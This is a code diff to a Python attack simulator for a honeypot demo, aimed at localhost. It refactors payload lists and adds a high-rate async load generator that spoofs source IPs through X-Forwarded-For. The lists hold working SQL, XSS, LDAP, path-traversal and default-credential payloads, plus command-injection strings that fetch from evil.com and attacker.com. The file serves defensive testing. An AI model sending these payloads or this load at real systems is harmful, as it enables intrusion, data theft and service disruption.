@@ -2,52 +2,148 @@
 NeuroHoneypot - Simulated Attacker
 Generates realistic attack traffic for demo purposes
 """
+import argparse
+import asyncio
+import bisect
+import math
 import requests
 import time
 import random
+from collections import Counter
 from datetime import datetime
+from urllib.parse import parse_qsl, quote, urlencode, urlsplit
+from sketches import HyperLogLog
 
 HONEYPOT_URL = "http://localhost:5000"
 
+# Simulated source addresses, sent in a forwarded-for header that the
+# honeypot honours from its TRUSTED_PROXIES (loopback by default)
+FORWARDED_HEADER = 'X-Forwarded-For'
+SOURCE_IP_DISTRIBUTIONS = ['zipf', 'uniform']
+# First octets used for simulated IPs: unicast /8s holding no private,
+# loopback, link-local, CGNAT, benchmark or documentation ranges
+PUBLIC_FIRST_OCTETS = [o for o in range(1, 224) if o not in (10, 100, 127, 169, 172, 192, 198, 203)]
+
+# Attack payloads, shared by the interactive scenarios and the load generator
+RECON_TARGETS = [
+    '/',
+    '/admin',
+    '/login',
+    '/api/users',
+    '/api/logs',
+    '/robots.txt',
+    '/sitemap.xml',
+    '/.git/config',
+    '/backup.zip'
+]
+CREDENTIALS = [
+    ('admin', 'admin'),
+    ('admin', 'password'),
+    ('admin', '123456'),
+    ('root', 'root'),
+    ('administrator', 'admin123'),
+    ('user', 'password'),
+    ('test', 'test'),
+    ('admin', 'admin123'),
+]
+SQLI_PAYLOADS = [
+    "' OR '1'='1",
+    "admin' --",
+    "1' UNION SELECT NULL--",
+    "' OR 1=1--",
+    "admin'/*",
+    "') OR ('1'='1",
+    "1; DROP TABLE users--",
+]
+CMD_PAYLOADS = [
+    "; ls -la",
+    "| whoami",
+    "&& cat /etc/passwd",
+    "; wget http://evil.com/shell.sh",
+    "| curl http://attacker.com",
+    "`id`",
+    "$(whoami)",
+]
+TRAVERSAL_PATHS = [
+    '../../../etc/passwd',
+    '..\\..\\..\\windows\\system.ini',
+    '....//....//....//etc/passwd',
+    '..%2F..%2F..%2Fetc%2Fpasswd',
+    '../../../../../../../etc/shadow',
+    '..\\..\\..\\boot.ini',
+]
+XSS_PAYLOADS = [
+    '<script>alert("XSS")</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    'javascript:alert(document.cookie)',
+    '<iframe src="javascript:alert(1)">',
+    '"><script>alert(String.fromCharCode(88,83,83))</script>',
+    '<body onload=alert(1)>',
+]
+SENSITIVE_ENDPOINTS = [
+    '/api/config',
+    '/api/users',
+    '/api/database?q=SELECT * FROM users',
+    '/admin?token=secret123',
+    '/api/logs',
+]
+LDAP_PAYLOADS = [
+    '*',
+    '*)(&',
+    '*)(uid=*))(|(uid=*',
+    'admin)(&(password=*))',
+    '*))(|(password=*',
+]
+API_ENDPOINTS = ['/api/users', '/api/logs', '/api/config']
+
+# Attack stages run by each scenario, in order
+SCENARIO_STAGES = {
+    'full': [
+        'reconnaissance', 'brute_force_login', 'sql_injection_attack',
+        'command_injection_attack', 'path_traversal_attack', 'xss_attack',
+        'sensitive_data_access', 'ldap_injection_attack', 'api_abuse'
+    ],
+    'quick': ['reconnaissance', 'brute_force_login', 'sql_injection_attack', 'xss_attack'],
+    'sql_only': ['sql_injection_attack'],
+    'brute_force': ['brute_force_login'],
+    'xss_only': ['xss_attack'],
+    'api_abuse': ['api_abuse'],
+    # Advanced persistent threat simulation
+    'advanced': [
+        'reconnaissance', 'api_abuse', 'sql_injection_attack',
+        'xss_attack', 'ldap_injection_attack'
+    ],
+}
+SCENARIO_PAUSES = {'full': 2, 'advanced': 1}   # seconds between stages
+
+# Load generator
+LOAD_RPS = 200                 # default target requests per second
+LOAD_DURATION = 30             # default test length in seconds
+LOAD_CONCURRENCY = 500         # default number of virtual attackers (connections)
+LOAD_TIMEOUT = 10              # seconds before a request counts as timed out
+PROGRESS_INTERVAL = 5          # seconds between progress lines
+HISTOGRAM_BOUNDS_MS = [1, 2, 5, 10, 20, 50, 100, 200, 500, 1000, 2000, 5000]
+
 class SimulatedAttacker:
-    def __init__(self, attacker_type='mixed'):
+    def __init__(self, attacker_type='mixed', source_ip=None):
         self.attacker_type = attacker_type
         self.session = requests.Session()
         self.session.headers.update({
             'User-Agent': self._get_user_agent()
         })
+        if source_ip:
+            self.session.headers[FORWARDED_HEADER] = source_ip
     
     def _get_user_agent(self):
         """Get user agent based on attacker type"""
-        agents = {
-            'script_kiddie': 'python-requests/2.28.0',
-            'sophisticated': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
-            'bot': 'Mozilla/5.0 (compatible; AttackBot/1.0)',
-            'mixed': random.choice([
-                'python-requests/2.28.0',
-                'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
-                'curl/7.68.0'
-            ])
-        }
-        return agents.get(self.attacker_type, agents['mixed'])
+        return _user_agent(self.attacker_type)
     
     def reconnaissance(self):
         """Stage 1: Reconnaissance - probe the system"""
         print("\n🔍 [RECON] Starting reconnaissance...")
         
-        targets = [
-            '/',
-            '/admin',
-            '/login',
-            '/api/users',
-            '/api/logs',
-            '/robots.txt',
-            '/sitemap.xml',
-            '/.git/config',
-            '/backup.zip'
-        ]
-        
-        for target in targets:
+        for target in RECON_TARGETS:
             try:
                 print(f"   → Probing: {target}")
                 self.session.get(f"{HONEYPOT_URL}{target}", timeout=5)
@@ -59,18 +155,7 @@ class SimulatedAttacker:
         """Stage 2: Brute force login attempts"""
         print("\n🔐 [BRUTEFORCE] Attempting credential stuffing...")
         
-        credentials = [
-            ('admin', 'admin'),
-            ('admin', 'password'),
-            ('admin', '123456'),
-            ('root', 'root'),
-            ('administrator', 'admin123'),
-            ('user', 'password'),
-            ('test', 'test'),
-            ('admin', 'admin123'),
-        ]
-        
-        for username, password in credentials:
+        for username, password in CREDENTIALS:
             try:
                 print(f"   → Trying: {username}:{password}")
                 self.session.post(
@@ -86,17 +171,7 @@ class SimulatedAttacker:
         """Stage 3: SQL injection attempts"""
         print("\n💉 [SQL INJECTION] Attempting SQL injection...")
         
-        payloads = [
-            "' OR '1'='1",
-            "admin' --",
-            "1' UNION SELECT NULL--",
-            "' OR 1=1--",
-            "admin'/*",
-            "') OR ('1'='1",
-            "1; DROP TABLE users--",
-        ]
-        
-        for payload in payloads:
+        for payload in SQLI_PAYLOADS:
             try:
                 print(f"   → Payload: {payload[:30]}...")
                 self.session.get(
@@ -112,17 +187,7 @@ class SimulatedAttacker:
         """Stage 4: Command injection attempts"""
         print("\n⚡ [CMD INJECTION] Attempting command injection...")
         
-        payloads = [
-            "; ls -la",
-            "| whoami",
-            "&& cat /etc/passwd",
-            "; wget http://evil.com/shell.sh",
-            "| curl http://attacker.com",
-            "`id`",
-            "$(whoami)",
-        ]
-        
-        for payload in payloads:
+        for payload in CMD_PAYLOADS:
             try:
                 print(f"   → Command: {payload[:30]}...")
                 self.session.get(
@@ -138,16 +203,7 @@ class SimulatedAttacker:
         """Stage 5: Path traversal attempts"""
         print("\n📂 [PATH TRAVERSAL] Attempting path traversal...")
         
-        paths = [
-            '../../../etc/passwd',
-            '..\\..\\..\\windows\\system.ini',
-            '....//....//....//etc/passwd',
-            '..%2F..%2F..%2Fetc%2Fpasswd',
-            '../../../../../../../etc/shadow',
-            '..\\..\\..\\boot.ini',
-        ]
-        
-        for path in paths:
+        for path in TRAVERSAL_PATHS:
             try:
                 print(f"   → Path: {path}")
                 self.session.get(f"{HONEYPOT_URL}/{path}", timeout=5)
@@ -159,17 +215,7 @@ class SimulatedAttacker:
         """Stage 6: Cross-Site Scripting (XSS) attempts"""
         print("\n🎭 [XSS] Attempting Cross-Site Scripting...")
         
-        payloads = [
-            '<script>alert("XSS")</script>',
-            '<img src=x onerror=alert(1)>',
-            '<svg/onload=alert(1)>',
-            'javascript:alert(document.cookie)',
-            '<iframe src="javascript:alert(1)">',
-            '"><script>alert(String.fromCharCode(88,83,83))</script>',
-            '<body onload=alert(1)>',
-        ]
-        
-        for payload in payloads:
+        for payload in XSS_PAYLOADS:
             try:
                 print(f"   → Payload: {payload[:40]}...")
                 # Try in different parameters
@@ -186,15 +232,7 @@ class SimulatedAttacker:
         """Stage 7: Access sensitive endpoints"""
         print("\n🔓 [SENSITIVE ACCESS] Accessing sensitive endpoints...")
         
-        endpoints = [
-            '/api/config',
-            '/api/users',
-            '/api/database?q=SELECT * FROM users',
-            '/admin?token=secret123',
-            '/api/logs',
-        ]
-        
-        for endpoint in endpoints:
+        for endpoint in SENSITIVE_ENDPOINTS:
             try:
                 print(f"   → Accessing: {endpoint}")
                 self.session.get(f"{HONEYPOT_URL}{endpoint}", timeout=5)
@@ -206,15 +244,7 @@ class SimulatedAttacker:
         """Stage 8: LDAP injection attempts"""
         print("\n📁 [LDAP INJECTION] Attempting LDAP injection...")
         
-        payloads = [
-            '*',
-            '*)(&',
-            '*)(uid=*))(|(uid=*',
-            'admin)(&(password=*))',
-            '*))(|(password=*',
-        ]
-        
-        for payload in payloads:
+        for payload in LDAP_PAYLOADS:
             try:
                 print(f"   → Payload: {payload}")
                 self.session.post(
@@ -230,11 +260,9 @@ class SimulatedAttacker:
         """Stage 9: API abuse and rate limit testing"""
         print("\n⚡ [API ABUSE] Testing API rate limits...")
         
-        endpoints = ['/api/users', '/api/logs', '/api/config']
-        
         for i in range(15):  # Rapid requests
             try:
-                endpoint = random.choice(endpoints)
+                endpoint = random.choice(API_ENDPOINTS)
                 print(f"   → Request {i+1}/15: {endpoint}")
                 self.session.get(f"{HONEYPOT_URL}{endpoint}", timeout=5)
                 time.sleep(random.uniform(0.1, 0.3))  # Very fast
@@ -251,79 +279,395 @@ class SimulatedAttacker:
         print(f"   Time: {datetime.now().strftime('%Y-%m-%d %H:%M:%S')}")
         print("="*60)
         
-        if scenario == 'full':
-            self.reconnaissance()
-            time.sleep(2)
-            self.brute_force_login()
-            time.sleep(2)
-            self.sql_injection_attack()
-            time.sleep(2)
-            self.command_injection_attack()
-            time.sleep(2)
-            self.path_traversal_attack()
-            time.sleep(2)
-            self.xss_attack()
-            time.sleep(2)
-            self.sensitive_data_access()
-            time.sleep(2)
-            self.ldap_injection_attack()
-            time.sleep(2)
-            self.api_abuse()
-        
-        elif scenario == 'quick':
-            self.reconnaissance()
-            self.brute_force_login()
-            self.sql_injection_attack()
-            self.xss_attack()
-        
-        elif scenario == 'sql_only':
-            self.sql_injection_attack()
-        
-        elif scenario == 'brute_force':
-            self.brute_force_login()
+        stages = SCENARIO_STAGES.get(scenario, [])
+        for i, stage in enumerate(stages):
+            if i and scenario in SCENARIO_PAUSES:
+                time.sleep(SCENARIO_PAUSES[scenario])
+            getattr(self, stage)()
         
-        elif scenario == 'xss_only':
-            self.xss_attack()
+        print("\n" + "="*60)
+        print("✅ Attack simulation complete")
+        print("="*60 + "\n")
+
+def _user_agent(attacker_type):
+    """User agent for an attacker type"""
+    agents = {
+        'script_kiddie': 'python-requests/2.28.0',
+        'sophisticated': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
+        'bot': 'Mozilla/5.0 (compatible; AttackBot/1.0)',
+        'mixed': random.choice([
+            'python-requests/2.28.0',
+            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
+            'curl/7.68.0'
+        ])
+    }
+    return agents.get(attacker_type, agents['mixed'])
+
+def stage_requests(stage):
+    """The requests one attack stage sends, as (method, target, form) tuples"""
+    if stage == 'reconnaissance':
+        return [('GET', encode_target(t), None) for t in RECON_TARGETS]
+    if stage == 'brute_force_login':
+        return [('POST', '/login', {'username': u, 'password': p}) for u, p in CREDENTIALS]
+    if stage == 'sql_injection_attack':
+        return [('GET', encode_target('/api/database', {'q': p}), None) for p in SQLI_PAYLOADS]
+    if stage == 'command_injection_attack':
+        return [('GET', encode_target('/api/exec', {'cmd': p}), None) for p in CMD_PAYLOADS]
+    if stage == 'path_traversal_attack':
+        return [('GET', encode_target('/' + p), None) for p in TRAVERSAL_PATHS]
+    if stage == 'xss_attack':
+        return [('GET', encode_target('/', {'search': p}), None) for p in XSS_PAYLOADS]
+    if stage == 'sensitive_data_access':
+        return [('GET', encode_target(e), None) for e in SENSITIVE_ENDPOINTS]
+    if stage == 'ldap_injection_attack':
+        return [('POST', '/login', {'username': p, 'password': 'test'}) for p in LDAP_PAYLOADS]
+    if stage == 'api_abuse':
+        return [('GET', encode_target(e), None) for e in API_ENDPOINTS]
+    return []
+
+def encode_target(path, params=None):
+    """Request target for a path (which may carry a query) plus extra params"""
+    path, _, query = path.partition('?')
+    params = parse_qsl(query, keep_blank_values=True) + list((params or {}).items())
+    target = quote(path, safe="/%:@!$&'()*+,;=-._~")
+    return target + ('?' + urlencode(params) if params else '')
+
+class SourceIpPool:
+    """
+    Population of simulated attacker addresses.
+    
+    Address i is derived from i by a fixed bijective scramble, so a pool of
+    millions costs no memory and every run sees the same population.
+    'zipf' picks ranks log-uniformly (a few very noisy sources and a long
+    tail, as in real scanning traffic); 'uniform' spreads requests evenly.
+    """
+    
+    def __init__(self, size, distribution='zipf'):
+        if distribution not in SOURCE_IP_DISTRIBUTIONS:
+            raise ValueError(f"unknown IP distribution: {distribution}")
+        self.size = size
+        self.distribution = distribution
+    
+    def pick(self):
+        """Source IP for the next request"""
+        if self.distribution == 'zipf':
+            index = int(self.size ** random.random()) - 1
+        else:
+            index = random.randrange(self.size)
+        return self.address(index)
+    
+    def address(self, index):
+        """The index-th address of the pool"""
+        scrambled = (index * 2654435761 + 0x9E3779B9) % 2 ** 32
+        first = PUBLIC_FIRST_OCTETS[scrambled % len(PUBLIC_FIRST_OCTETS)]
+        rest = scrambled // len(PUBLIC_FIRST_OCTETS) % 2 ** 24
+        return f"{first}.{rest >> 16}.{(rest >> 8) & 255}.{rest & 255}"
+
+class HttpClient:
+    """
+    Minimal HTTP/1.1 client on one asyncio connection.
+    
+    Built on asyncio streams rather than requests so thousands of them can
+    run in one thread. The connection is kept alive when the server allows
+    it and reopened otherwise; a request on a reused connection that the
+    server has meanwhile closed is retried once on a fresh one.
+    """
+    
+    def __init__(self, url=HONEYPOT_URL, timeout=LOAD_TIMEOUT):
+        parts = urlsplit(url)
+        self.host = parts.hostname or 'localhost'
+        self.port = parts.port or 80
+        self.timeout = timeout
+        self.reader = None
+        self.writer = None
+    
+    async def request(self, method, target, headers=None, form=None):
+        """Send one request and read the whole response; returns the status code"""
+        body = urlencode(form).encode() if form is not None else b''
+        lines = [f"{method} {target} HTTP/1.1", f"Host: {self.host}:{self.port}"]
+        for name, value in (headers or {}).items():
+            lines.append(f"{name}: {value}")
+        if form is not None:
+            lines.append("Content-Type: application/x-www-form-urlencoded")
+        if body or method in ('POST', 'PUT', 'PATCH'):
+            lines.append(f"Content-Length: {len(body)}")
+        data = ('\r\n'.join(lines) + '\r\n\r\n').encode('latin-1', 'replace') + body
         
-        elif scenario == 'api_abuse':
-            self.api_abuse()
+        reused = self.writer is not None
+        try:
+            return await asyncio.wait_for(self._exchange(data, method), self.timeout)
+        except (ConnectionError, asyncio.IncompleteReadError):
+            self.close()
+            if not reused:
+                raise
+        return await asyncio.wait_for(self._exchange(data, method), self.timeout)
+    
+    def close(self):
+        if self.writer is not None:
+            self.writer.close()
+        self.reader = self.writer = None
+    
+    async def _exchange(self, data, method):
+        try:
+            if self.writer is None:
+                self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
+            self.writer.write(data)
+            await self.writer.drain()
+            return await self._read_response(method)
+        except BaseException:
+            self.close()
+            raise
+    
+    async def _read_response(self, method):
+        while True:
+            head = await self.reader.readuntil(b'\r\n\r\n')
+            status_line, *header_lines = head.decode('latin-1').split('\r\n')
+            version, status = status_line.split(' ', 2)[:2]
+            status = int(status)
+            # Skip interim responses (100 Continue); the final one follows
+            if not 100 <= status < 200 or status == 101:
+                break
+        headers = {}
+        for line in header_lines:
+            name, _, value = line.partition(':')
+            headers[name.strip().lower()] = value.strip().lower()
         
-        elif scenario == 'advanced':
-            # Advanced persistent threat simulation
-            self.reconnaissance()
-            time.sleep(1)
-            self.api_abuse()
-            time.sleep(1)
-            self.sql_injection_attack()
-            time.sleep(1)
-            self.xss_attack()
-            time.sleep(1)
-            self.ldap_injection_attack()
+        if method == 'HEAD' or status < 200 or status in (204, 304):
+            # No body, whatever Content-Length says (RFC 9112 section 6.3)
+            pass
+        elif 'content-length' in headers:
+            await self.reader.readexactly(int(headers['content-length']))
+        elif headers.get('transfer-encoding') == 'chunked':
+            while True:
+                size = int((await self.reader.readuntil(b'\r\n')).split(b';')[0], 16)
+                await self.reader.readexactly(size + 2)
+                if size == 0:
+                    break
+        else:
+            await self.reader.read()
+            headers['connection'] = 'close'
         
+        keep_alive = version == 'HTTP/1.1' and headers.get('connection') != 'close'
+        if not keep_alive:
+            self.close()
+        return status
+
+class LatencyHistogram:
+    """
+    Latency distribution in fixed memory.
+    
+    Samples fall into logarithmic buckets 1% wide, so any percentile is
+    accurate to about 1% however many requests are recorded.
+    """
+    
+    GROWTH = 1.01
+    
+    def __init__(self):
+        self.buckets = Counter()
+        self.count = 0
+        self.max = 0.0
+    
+    def record(self, seconds):
+        self.count += 1
+        self.max = max(self.max, seconds)
+        self.buckets[int(math.log(max(seconds, 1e-6) * 1e6, self.GROWTH))] += 1
+    
+    def percentile(self, p):
+        """Latency in seconds below which p percent of samples fall"""
+        if not self.count:
+            return 0.0
+        rank = math.ceil(self.count * p / 100)
+        seen = 0
+        for bucket in sorted(self.buckets):
+            seen += self.buckets[bucket]
+            if seen >= rank:
+                return min(self.GROWTH ** (bucket + 1) / 1e6, self.max)
+        return self.max
+    
+    def counts(self, bounds_ms):
+        """Sample counts below each bound (ms) plus one for the rest"""
+        edges = [math.log(b * 1000, self.GROWTH) for b in bounds_ms]
+        counts = [0] * (len(bounds_ms) + 1)
+        for bucket, n in self.buckets.items():
+            counts[bisect.bisect_right(edges, bucket)] += n
+        return counts
+
+class LoadGenerator:
+    """
+    Open-loop load test against the honeypot.
+    
+    Requests are scheduled at a fixed rate regardless of how fast responses
+    come back, drawn at random from the payloads of the scenario's stages.
+    `concurrency` virtual attackers, each with its own keep-alive
+    connection and user agent, take scheduled requests in order. Latency
+    is measured from the scheduled send time, so time spent waiting for a
+    free attacker when the honeypot falls behind is counted rather than
+    hidden (no coordinated omission). With a SourceIpPool every request
+    claims a fresh source address in FORWARDED_HEADER.
+    """
+    
+    def __init__(self, rps=LOAD_RPS, duration=LOAD_DURATION, concurrency=LOAD_CONCURRENCY,
+                 scenario='full', attacker_type='mixed', url=HONEYPOT_URL, sources=None):
+        self.rps = rps
+        self.duration = duration
+        self.concurrency = concurrency
+        self.attacker_type = attacker_type
+        self.url = url
+        self.sources = sources
+        self.source_ips = HyperLogLog()
+        self.requests = [r for stage in SCENARIO_STAGES.get(scenario, SCENARIO_STAGES['full'])
+                         for r in stage_requests(stage)]
+        self.latency = LatencyHistogram()
+        self.statuses = Counter()
+        self.errors = Counter()
+        self.scheduled = 0
+    
+    def run(self):
+        """Run the test and print the report"""
+        print("="*60)
+        print("🚀 Load Test Starting")
+        print(f"   Target: {self.url}")
+        print(f"   Rate: {self.rps} req/s for {self.duration}s")
+        print(f"   Virtual attackers: {self.concurrency}")
+        if self.sources:
+            print(f"   Source IPs: {self.sources.size} ({self.sources.distribution}, {FORWARDED_HEADER})")
+        print("="*60)
+        elapsed, unsent = asyncio.run(self._run())
+        self.report(elapsed, unsent)
+    
+    async def _run(self):
+        queue = asyncio.Queue()
+        attackers = [asyncio.create_task(self._attacker(queue)) for _ in range(self.concurrency)]
+        progress = asyncio.create_task(self._progress(queue))
+        start = time.perf_counter()
+        await self._schedule(queue)
+        try:
+            # Let requests already scheduled finish, within one timeout
+            await asyncio.wait_for(queue.join(), LOAD_TIMEOUT)
+        except asyncio.TimeoutError:
+            pass
+        elapsed = time.perf_counter() - start
+        unsent = queue.qsize()
+        for task in attackers + [progress]:
+            task.cancel()
+        await asyncio.gather(*attackers, progress, return_exceptions=True)
+        return elapsed, unsent
+    
+    async def _schedule(self, queue):
+        loop = asyncio.get_running_loop()
+        start = loop.time()
+        total = int(self.rps * self.duration)
+        for n in range(total):
+            due = start + n / self.rps
+            delay = due - loop.time()
+            if delay > 0:
+                await asyncio.sleep(delay)
+            queue.put_nowait((due, random.choice(self.requests)))
+            self.scheduled += 1
+    
+    async def _attacker(self, queue):
+        loop = asyncio.get_running_loop()
+        client = HttpClient(self.url)
+        headers = {'User-Agent': _user_agent(self.attacker_type)}
+        try:
+            while True:
+                due, (method, target, form) = await queue.get()
+                if self.sources:
+                    headers[FORWARDED_HEADER] = source_ip = self.sources.pick()
+                    self.source_ips.add(source_ip)
+                try:
+                    status = await client.request(method, target, headers, form)
+                    self.statuses[status] += 1
+                    self.latency.record(loop.time() - due)
+                except asyncio.TimeoutError:
+                    self.errors['timeout'] += 1
+                except (OSError, asyncio.IncompleteReadError, ValueError) as e:
+                    self.errors[type(e).__name__] += 1
+                finally:
+                    queue.task_done()
+        finally:
+            client.close()
+    
+    async def _progress(self, queue):
+        while True:
+            await asyncio.sleep(PROGRESS_INTERVAL)
+            done = sum(self.statuses.values())
+            print(f"   … scheduled {self.scheduled}, completed {done}, "
+                  f"errors {sum(self._all_errors().values())}, waiting {queue.qsize()}, "
+                  f"p99 {self.latency.percentile(99) * 1000:.1f}ms")
+    
+    def _all_errors(self):
+        """Transport errors plus 5xx responses (counted only in statuses)"""
+        errors = Counter({f"HTTP {s}": c for s, c in self.statuses.items() if s >= 500})
+        errors.update(self.errors)
+        return errors
+    
+    def report(self, elapsed, unsent):
+        """Print throughput, latency percentiles and error rates"""
+        completed = sum(self.statuses.values())
+        failed = sum(self.errors.values())
+        cancelled = self.scheduled - unsent - completed - failed
+        errors = self._all_errors()
         print("\n" + "="*60)
-        print("✅ Attack simulation complete")
+        print("📊 Load Test Results")
+        print("="*60)
+        print(f"   Scheduled: {self.scheduled} ({self.rps} req/s target)")
+        print(f"   Completed: {completed} in {elapsed:.1f}s ({completed / elapsed:.1f} req/s)")
+        if unsent:
+            print(f"   ⚠️  Never sent: {unsent} (attackers could not keep up)")
+        if cancelled:
+            print(f"   ⚠️  Still in flight at the end: {cancelled}")
+        total_errors = sum(errors.values())
+        print(f"   Errors: {total_errors} ({total_errors / max(completed + failed, 1):.2%})")
+        for kind, count in errors.most_common():
+            print(f"      {kind}: {count}")
+        print("   Status codes: " + ', '.join(f"{s}: {c}" for s, c in sorted(self.statuses.items())))
+        if self.sources:
+            print(f"   Distinct source IPs sent: ~{self.source_ips.count()}")
+        
+        if self.latency.count:
+            print(f"\n   Latency p50 {self.latency.percentile(50) * 1000:.1f}ms"
+                  f" | p95 {self.latency.percentile(95) * 1000:.1f}ms"
+                  f" | p99 {self.latency.percentile(99) * 1000:.1f}ms"
+                  f" | max {self.latency.max * 1000:.1f}ms")
+            counts = self.latency.counts(HISTOGRAM_BOUNDS_MS)
+            labels = [f"< {b}ms" for b in HISTOGRAM_BOUNDS_MS] + [f">= {HISTOGRAM_BOUNDS_MS[-1]}ms"]
+            widest = max(counts)
+            for label, count in zip(labels, counts):
+                if count:
+                    bar = '█' * max(1, round(40 * count / widest))
+                    print(f"   {label:>10} {bar} {count}")
         print("="*60 + "\n")
 
 def main():
     """Main entry point"""
-    import sys
-    
-    scenario = 'full'
-    attacker_type = 'mixed'
-    
-    if len(sys.argv) > 1:
-        scenario = sys.argv[1]
-    if len(sys.argv) > 2:
-        attacker_type = sys.argv[2]
+    parser = argparse.ArgumentParser(description="Generate attack traffic against the honeypot")
+    parser.add_argument('scenario', nargs='?', default='full')
+    parser.add_argument('attacker_type', nargs='?', default='mixed')
+    parser.add_argument('--load', action='store_true',
+                        help="open-loop load test with many concurrent attackers")
+    parser.add_argument('--rps', type=float, default=LOAD_RPS, help="target requests per second")
+    parser.add_argument('--duration', type=float, default=LOAD_DURATION, help="test length in seconds")
+    parser.add_argument('--concurrency', type=int, default=LOAD_CONCURRENCY,
+                        help="virtual attackers (open connections)")
+    parser.add_argument('--source-ips', type=int, default=0,
+                        help=f"simulate this many attacker IPs via {FORWARDED_HEADER} (0 = off)")
+    parser.add_argument('--ip-distribution', choices=SOURCE_IP_DISTRIBUTIONS, default='zipf',
+                        help="how requests spread over the simulated IPs")
+    args = parser.parse_args()
+    sources = SourceIpPool(args.source_ips, args.ip_distribution) if args.source_ips > 0 else None
     
     print("\n🎯 NeuroHoneypot - Simulated Attacker")
-    print("Available scenarios: full, quick, sql_only, brute_force")
+    print("Available scenarios: " + ', '.join(SCENARIO_STAGES))
     print("Available types: mixed, script_kiddie, sophisticated, bot\n")
     
-    attacker = SimulatedAttacker(attacker_type)
-    
     try:
-        attacker.run_attack_scenario(scenario)
+        if args.load:
+            LoadGenerator(args.rps, args.duration, args.concurrency,
+                          args.scenario, args.attacker_type, sources=sources).run()
+        else:
+            source_ip = sources.pick() if sources else None
+            SimulatedAttacker(args.attacker_type, source_ip).run_attack_scenario(args.scenario)
     except KeyboardInterrupt:
         print("\n\n⚠️  Attack simulation interrupted")
     except requests.exceptions.ConnectionError:
@@ -334,4 +678,3 @@ def main():
 
 if __name__ == '__main__':
     main()
-